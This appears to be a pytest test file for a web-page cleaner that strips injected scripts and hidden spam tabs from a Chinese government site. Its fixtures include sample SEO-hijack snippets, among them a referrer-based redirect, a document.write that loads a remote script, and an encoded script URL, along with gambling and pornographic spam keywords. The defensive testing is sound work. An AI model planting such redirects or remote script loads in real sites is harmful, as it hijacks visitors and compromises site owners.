"""What stands beside the text (hidden parts, scripts) is judged of all at once, as one by one."""

from __future__ import annotations

import random

import pytest

from parsers.cleaning import clean, hidden
from parsers.cleaning.flat import Flat
from parsers.cleaning.injected import cut_injected_scripts
from parsers.extract.visibility import SHEET
from parsers.items import Block, Cell, Document, Link
from tests.parsers.lines import lines_shown
from tests.parsers.pages import page_of

SEED = 20261123
TAB = f"{SHEET}display:none"
# What each does to a page of www.lf.gov.cn is known of each alone.
SCRIPTS = (
    "if(/baidu|sogou/.test(document.referrer)){location='//a.top/'}",
    "document.write(unescape('%3Cscript src=//b365.vip/x.js%3E'))",
    "src=//3k9.a1.top/t.js",
    "src=//www.lf.gov.cn/t.js",
    "var hits = 3;",
    "el.src = '//ta' + 'x.conac.cn/'",
    'atob("Ly93d3cuYS50b3AvdC5qcw==")',
    "eval(function(p,a,c,k,e,d){return document.title})",
    "line one\nline two",
)


def document(*blocks, scripts=()):
    return Document(page_of(""), "text/html", "utf-8", blocks=blocks, scripts=scripts)


def test_of_many_scripts_those_go_that_would_go_alone():
    chance = random.Random(SEED)
    print("seed", SEED)
    alone = {each: cut_injected_scripts((each,), "www.lf.gov.cn") for each in SCRIPTS}
    assert {each for each, (left, _) in alone.items() if not left} >= {*SCRIPTS[:3]}
    for _ in range(50):
        scripts = tuple(chance.choices(SCRIPTS, k=8))
        left, cuts = cut_injected_scripts(scripts, "www.lf.gov.cn")
        assert left == tuple(each for each in scripts if alone[each][0])
        assert cuts == [cut for each in scripts for cut in alone[each][1]]


def test_scripts_that_stay_are_the_same_tuple():
    honest = SCRIPTS[3:5]
    assert cut_injected_scripts(honest, "www.lf.gov.cn") == (honest, [])
    assert cut_injected_scripts(honest, "www.lf.gov.cn")[0] is honest


@pytest.mark.parametrize(
    ("block", "shown"),
    [
        (Block("依申请公开情况", hidden=TAB), True),
        (Block("皇冠体育", hidden=TAB), False),
        (Block("更多", links=(Link("http://a1.top/", "更多"),), hidden=TAB), False),
        (Block("更多", links=(Link("http://www.lf.gov.cn/", "更多"),), hidden=TAB), True),
        (Block("依申请公开情况", hidden=f"{SHEET}colour on colour"), False),
        (Block("依申请公开情况", hidden="display:none"), False),
    ],
)
def test_a_tab_is_shown_where_it_sells_nothing(block, shown):
    said = Block("2014年共主动公开政府信息300条，其中网站公开200条。")
    cleaned = clean(document(said, block, said, said), None).document
    assert [each.text for each in cleaned.blocks if each.text != said.text] == [block.text] * shown
    assert not any(each.hidden for each in cleaned.blocks)


def test_a_tab_whose_farm_went_is_shown_in_the_next_round():
    farm = "久久热|国产精品|亚洲无码|成人视频|在线播放"
    blocks = [Block(f"2014年共主动公开政府信息{n}条。") for n in range(60)]
    tab = Block(f"本年度收到政府信息公开申请12件。{farm}", hidden=TAB, main=False)
    cleaned = clean(document(*blocks, tab), None).document
    again = clean(cleaned, None)
    assert again.document == cleaned


def test_what_stays_hidden_is_asked_once_whether_it_sells(monkeypatch):
    asked = {hidden._that_sell: [], hidden._throwaway: []}
    for look, texts in asked.items():
        once = lambda new, look=look, texts=texts: texts.extend(new) or look(new)  # noqa: E731
        monkeypatch.setattr(hidden, look.__name__, once)
    link = Link("http://a1.top/", "更多")
    menu = [
        Block("久久热", hidden=TAB, main=False),
        Block("更多", (), (link,), "p", TAB, main=False),
    ]
    said = Block("关(guān)(guān)(guān)于主动公开政府信息")
    assert clean(document(said, *menu, *menu), None).document.blocks[1:] == (*menu, *menu)
    assert [*asked.values()] == [["久久热", "更多"], [link.url]]


@pytest.mark.parametrize("asked", [True, False])
def test_what_is_shown_is_shown_whatever_changes_behind_it(asked):
    table = Block(rows=((Cell("丙"),), (Cell("丁"), Cell(""))), tag="table", hidden=TAB)
    blocks = (Block("甲", hidden=TAB), Block("乙"), table, Block("戊", hidden=TAB, main=False))
    page = Flat(document(*blocks))
    steps = (
        lambda page: page.with_shown([0, 2], "kept"),
        lambda page: page.with_blocks({1: None}),
        lambda page: page.with_changed({page.first + 2: "丁一", page.first + 4: "戊一"}, {}),
        lambda page: page.with_shown([2]),
        lambda page: page.with_blocks({0: None}),
    )
    seen, unseen = [], []
    for step in steps:
        page = step(page)
        if asked:
            assert lines_shown(Flat(page.document)) == lines_shown(page)
        seen.append("".join(lines_shown(page)))
        unseen.append(page.shape.unseen)
    assert seen == ["甲乙丙丁", "甲丙丁", "甲丙丁一", "甲丙丁一戊一", "丙丁一戊一"]
    assert unseen == [[3], [2], [2], [], []]
    left = page.document
    rows = ((Cell("丙"),), (Cell("丁一"), Cell("")))
    assert left.blocks == (Block(rows=rows, tag="table"), Block("戊一", main=False))
    assert left.warnings == ("kept",)


def test_what_is_hidden_alone_needs_no_step_of_its_own():
    """Traditional characters that nobody sees do not make a page one in old script."""
    blocks = [Block(f"2014年共主动公开政府信息{n}条。") for n in range(9)]
    assert (
        clean(document(*blocks, Block("務報開", hidden="display:none")), None).script
        == "simplified"
    )
